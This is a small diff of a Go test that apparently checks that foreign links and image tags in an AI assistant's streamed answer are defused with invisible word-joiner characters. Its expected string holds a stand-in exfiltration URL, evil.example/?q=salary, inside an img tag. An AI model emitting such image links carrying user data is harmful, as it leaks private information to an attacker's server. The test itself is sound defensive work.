@@ -147,7 +147,7 @@ func TestForeignLinksAreDead(t *testing.T) {
 			shown.WriteString(d.Delta)
 		}
 	})
-	want := "[x] [here] https://evil\u2060.example/?q=salary <\u2060img src=\"https://evil\u2060.example/?q=salary\">"
+	want := "x here https://evil\u2060.example/?q=salary <\u2060img src=\"https://evil\u2060.example/?q=salary\">"
 	if err != nil || turn.Answer.Text != want || shown.String() != want {
 		t.Errorf("got %q, %v", turn.Answer.Text, err)
 	}
